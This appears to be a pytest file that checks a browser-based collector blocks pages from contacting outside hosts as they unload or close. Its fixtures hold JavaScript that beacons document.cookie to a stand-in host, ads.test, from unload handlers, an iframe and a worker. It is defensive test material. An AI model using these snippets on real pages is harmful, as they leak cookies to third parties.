"""A page that is being left or closed reaches no stranger with its last breath, whichever browser shows it.

Every host leads to the simulated server here, so nothing but the guard of the page stands in between.
"""

import asyncio
import html
import os

import pytest

from collector.browser import BrowserOptions, open_browser
from collector.browser.starting import has_proxy
from fixtures.messages import page
from scrapers.words import Outcome
from tests.browser.conftest import BRISK, NUMBER, Counter
from tests.browser.test_profiles import running_browser
from tests.security.test_hostile_portal import strangers

pytestmark = pytest.mark.browser

HOST = "www.counter.test"
OTHER = "DP000000002"
#: Asks a stranger by every way that outlives a page, over and over, and once more at each of its ends.
LASTS = """<script>
  const ways = [
    there => navigator.sendBeacon(there + 'beacon', document.cookie),
    there => fetch(there + 'kept', {keepalive: true, mode: 'no-cors'}).catch(() => 0),
    there => { new Image().src = there + 'image'; },
    there => document.body.append(Object.assign(document.createElement('script'), {src: there + 'script'})),
    there => document.body.append(
      Object.assign(document.createElement('link'), {rel: 'stylesheet', href: there + 'style'})),
  ];
  const all = () => ways.forEach(way => way('https://ads.test/' + Math.random() + '/'));
  for (const end of ['beforeunload', 'pagehide', 'visibilitychange', 'freeze', 'unload'])
    for (const target of [window, document]) target.addEventListener(end, all);
  all();
  setInterval(all, 60);
</script>"""
#: The same from a frame within the page, and by a worker.
WITHIN = f"""<iframe srcdoc="{html.escape(LASTS)}"></iframe><script>
  const work = "setInterval(() => fetch('https://ads.test/worker', {{mode: 'no-cors'}}).catch(() => 0), 20)";
  new Worker(URL.createObjectURL(new Blob([work])));
</script>"""


class Standing(Counter):
    """Later numbers are asked for from within a page that stays."""

    fetches = True


@pytest.fixture(params=["own", "attached"])
def options(request, bench, tmp_path):
    if request.param == "own":
        yield BrowserOptions(arguments=tuple(bench.arguments))
        return
    with running_browser(bench.arguments, tmp_path / "running") as (endpoint, _):
        yield BrowserOptions(endpoint=endpoint)


async def at_once(browser, bench):
    return [await bench.visiting(Counter(), number, browser=browser) for number in (NUMBER, OTHER)]


async def at_leisure(browser, bench):
    seen = [await bench.visiting(Counter(), browser=browser)]
    await asyncio.sleep(1)  # by then the page is left for an empty one
    return seen


async def in_vain(browser, bench):
    return [await bench.visiting(Counter(), browser=browser, limits=BRISK)]


async def from_within(browser, bench):
    return [await bench.visiting(Standing(), browser=browser)]


@pytest.mark.parametrize("what", [LASTS, WITHIN], ids=["by itself", "from within"])
@pytest.mark.parametrize("way", [at_once, at_leisure, from_within])
def test_a_page_that_is_left_reaches_no_stranger(bench, options, way, what):
    for number in (NUMBER, OTHER):
        bench.site.lasting(HOST, f"/{number}", page("<ul class=rows><li>Arrived</ul>" + what))
    for one in lived(bench, options, way):
        assert (one.outcome, one.error) == (Outcome.OK, None)
        assert one.blocked_hosts == ("ads.test",)
    assert strangers(bench.site) == []


@pytest.mark.parametrize(
    "what",
    [LASTS, WITHIN, f"{LASTS}<script>document.head.remove()</script>"],
    ids=["by itself", "from within", "without a head"],
)
def test_a_page_that_is_closed_reaches_no_stranger(bench, options, what):
    bench.site.lasting(HOST, f"/{NUMBER}", page("<h1>New</h1>" + what))
    (one,) = lived(bench, options, in_vain)
    assert one.outcome is Outcome.LAYOUT_CHANGED
    assert strangers(bench.site) == []


@pytest.fixture(params=["behind a proxy", "attached"])
def unwalled(request, bench, tmp_path):
    """Browsers that find every host past the wall; the proxy is none, but the browser is told of one."""
    if request.param == "behind a proxy":
        usual = (argument for argument in bench.arguments if argument != "--no-proxy-server")
        yield BrowserOptions(arguments=(*usual, "--proxy-server=direct://"))
        return
    with running_browser(bench.arguments, tmp_path / "running") as (endpoint, _):
        yield BrowserOptions(endpoint=endpoint)


@pytest.mark.parametrize("apart", [(NUMBER,), (OTHER,), (NUMBER, OTHER)], ids=["first", "second", "both"])
def test_a_page_that_wants_a_group_of_its_own_is_left_in_silence_too(bench, unwalled, apart):
    for number in (NUMBER, OTHER):
        headers = (("Cross-Origin-Opener-Policy", "same-origin"),) if number in apart else ()
        shown = page("<ul class=rows><li>Arrived</ul>" + LASTS, headers=headers)
        bench.site.lasting(HOST, f"/{number}", shown)
    for one in lived(bench, unwalled, at_once):
        assert (one.outcome, one.error) == (Outcome.OK, None)
    assert strangers(bench.site) == []


@pytest.mark.parametrize(
    ("arguments", "proxies", "expected"),
    [
        ((), {}, False),
        ((), {"https": "http://proxy.test:3128"}, True),
        ((), {"no": "localhost"}, False),
        (("--no-proxy-server",), {"http": "http://proxy.test:3128"}, False),
        (("--proxy-server=socks5://proxy.test",), {}, True),
        (("--proxy-pac-url=http://proxy.test/pac",), {}, True),
        (("--proxy-auto-detect",), {}, True),
        (("--proxy-bypass-list=x.test",), {}, False),
    ],
)
def test_a_proxy_is_told_by_arguments_and_by_the_system(arguments, proxies, expected):
    assert has_proxy(arguments, proxies) is expected


def lived(bench, options, way):
    """What the visits of one browser's life saw, `way` by which they follow each other."""

    async def run():
        async with open_browser(options, os.environ) as browser:
            return await way(browser, bench)

    return bench.runner.run(run())
